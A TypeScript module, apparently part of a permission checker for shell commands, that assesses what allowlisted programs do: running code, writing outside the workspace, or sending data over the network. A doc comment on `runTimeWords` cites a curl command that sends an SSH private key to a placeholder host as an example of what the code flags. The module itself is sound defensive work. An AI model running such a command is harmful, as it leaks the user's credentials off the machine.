import { isAbsolute, relative, resolve } from 'node:path';
import type { ShellWord } from '../shell-words.js';
import { writeTargetFinding } from '../write-targets.js';

/**
 * What a use of an allowlisted program does beyond reading the workspace. Each
 * kind turns a bare allowlist `allow` into `ask` (issue 17, "Allowlisted programs
 * that run other code").
 */
export type RiskKind = 'runs-code' | 'writes-outside' | 'writes-files' | 'network' | 'publishes';

export interface Risk {
  kind: RiskKind;
  /** The words that carry the risk, as typed (`-pe`, `--require=x`, `publish`): shown, and what an argPattern must spell. */
  spelled: string[];
  /** For people and the smart judge: what the option or subcommand does. */
  detail: string;
  /** The command the words belong to when it is more than the program (`git grep`). */
  within?: string;
}

/** Where the command runs: paths are judged against it. */
export interface ProgramContext {
  cwd: string;
  home: string | undefined;
}

/** Per-program knowledge: given the unquoted arguments, every risky thing the invocation does. */
export interface ProgramKnowledge {
  /** Command names (basenames) this knowledge applies to. */
  names: readonly string[];
  /** Names beyond the list (`python3.12`). */
  matches?: (base: string) => boolean;
  assess(args: readonly ShellWord[], context: ProgramContext): Risk[];
}

export function risk(kind: RiskKind, spelled: string | string[], detail: string): Risk {
  return { kind, spelled: Array.isArray(spelled) ? spelled : [spelled], detail };
}

/**
 * Where a path argument points, as far as it is known without running anything.
 * `unknown` (a run-time value, a glob) is treated like `outside` by the callers.
 */
export function pathPlace(word: ShellWord | string, context: ProgramContext): 'inside' | 'outside' | 'unknown' {
  const text = typeof word === 'string' ? word : word.text;
  if (typeof word !== 'string' && (word.dynamic || word.ansiC || word.brace)) return 'unknown';
  if (text === '') return 'unknown';
  let expanded = text;
  if (text === '~' || text.startsWith('~/')) {
    if (!context.home) return 'unknown';
    expanded = context.home + text.slice(1);
  } else if (text.startsWith('~')) return 'outside';
  const absolute = isAbsolute(expanded) ? resolve(expanded) : resolve(context.cwd, expanded);
  const inside = relative(resolve(context.cwd), absolute);
  if (inside.startsWith('..') || isAbsolute(inside)) return 'outside';
  return 'inside';
}

export function isOutside(word: ShellWord | string, context: ProgramContext): boolean {
  return pathPlace(word, context) !== 'inside';
}

/** The context for a program that moved into another folder first (`git -C dir`, `make -C dir`). */
export function within(context: ProgramContext, folder: string): ProgramContext {
  const expanded = folder === '~' || folder.startsWith('~/') ? (context.home ?? '/') + folder.slice(1) : folder;
  return { ...context, cwd: resolve(context.cwd, expanded) };
}

export function plainWord(text: string): ShellWord {
  return { text, raw: text, dynamic: false, ansiC: false, brace: false, glob: false };
}

/**
 * A file the program would write: fine inside the working folder unless a dotfile
 * (`.git/hooks`, `.bashrc`…), harmless devices are fine, anything else is a risk.
 * Same judgement as a `>` redirect (write-targets.ts).
 */
export function writeRisk(
  target: ShellWord | string,
  context: ProgramContext,
  spelled: string | string[],
  what: string,
): Risk | undefined {
  const given = typeof target === 'string' ? plainWord(target) : target;
  // A glob is judged by where it can reach: `*.o` stays in the folder (and skips dotfiles), `/???` does not.
  const word = given.glob && !given.dynamic && !given.ansiC && !given.brace ? { ...given, glob: false } : given;
  const finding = writeTargetFinding(word, context.cwd, context.home, what);
  return finding ? risk('writes-outside', spelled, finding.detail) : undefined;
}

/**
 * A network tool's word known only at run time (`curl "https://x/?$(cat ~/.ssh/id_rsa)"`, a
 * `-H "$TOKEN"` header) can carry any data off the machine: asked.
 */
export function runTimeWords(args: readonly ShellWord[], program: string): Risk[] {
  return args
    .filter((arg) => arg.dynamic)
    .map((arg) =>
      risk(
        'publishes',
        arg.raw,
        `${program} sends ${arg.raw}, known only at run time: it can carry data off the machine`,
      ),
    );
}

/**
 * An interpreter's script outside the working folder (or only known at run time) is not the
 * project's code: a bare entry vouches for `node script.js` in the workspace, not for
 * `node /tmp/x.js`.
 */
export function scriptElsewhere(program: string, script: ShellWord): Risk {
  return risk(
    'runs-code',
    script.raw,
    script.dynamic
      ? `${program} runs a script only known at run time`
      : `${program} runs ${script.text}, a script outside the working folder`,
  );
}
